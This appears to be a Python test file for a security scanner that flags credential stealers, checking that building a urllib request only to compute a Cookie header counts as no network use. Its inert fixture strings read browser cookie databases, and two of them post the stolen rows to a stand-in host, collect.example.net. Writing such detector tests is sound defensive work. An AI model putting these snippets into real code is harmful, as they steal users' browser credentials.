"""Rules 46: building a ``urllib.request.Request`` sends nothing (a cookie jar builds one to
compute a ``Cookie`` header; ``urlopen`` or an opener sends it), so it is no network use by
itself; an opener (``build_opener``) is, as a ``requests.Session`` is.

From ``benchmarks/scan_false_alarms.py``: yt-dlp's cookie loader (and gdown's vendored
copy) reads browser profiles for the user's own downloads and builds requests only to ask
its cookie jar for headers; the two were held as a stealer would be.

The sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

from tests.support.scan import judge_in_function

_PROFILE = (
    "import os, sqlite3, urllib.request\n"
    "def cookies(browser_dir):\n"
    "    db = os.path.join(browser_dir, 'Default', 'Network', 'Cookies')\n"
    "    return sqlite3.connect(db).execute('select name, value from cookies').fetchall()\n"
)


def test_a_request_built_for_its_cookie_header_is_no_network_use() -> None:
    client = _PROFILE + (
        "def header(jar, url):\n"
        "    request = urllib.request.Request(url)\n"
        "    jar.add_cookie_header(request)\n"
        "    return request.get_header('Cookie')\n"
    )
    rules, held = judge_in_function(client)
    assert "credential-read" in rules
    assert "credential-exfil" not in rules
    assert not held


def test_a_request_sent_by_an_opener_is_still_network_use() -> None:
    client = _PROFILE + (
        "def send(rows):\n"
        "    opener = urllib.request.build_opener()\n"
        "    request = urllib.request.Request('https://collect.example.net/c', data=str(rows).encode())\n"
        "    opener.open(request)\n"
    )
    rules, _held = judge_in_function(client)
    assert "credential-exfil" in rules


def test_a_request_sent_by_urlopen_is_still_network_use() -> None:
    client = _PROFILE + (
        "def send(rows):\n"
        "    request = urllib.request.Request('https://collect.example.net/c', data=str(rows).encode())\n"
        "    urllib.request.urlopen(request)\n"
    )
    rules, _held = judge_in_function(client)
    assert "credential-exfil" in rules
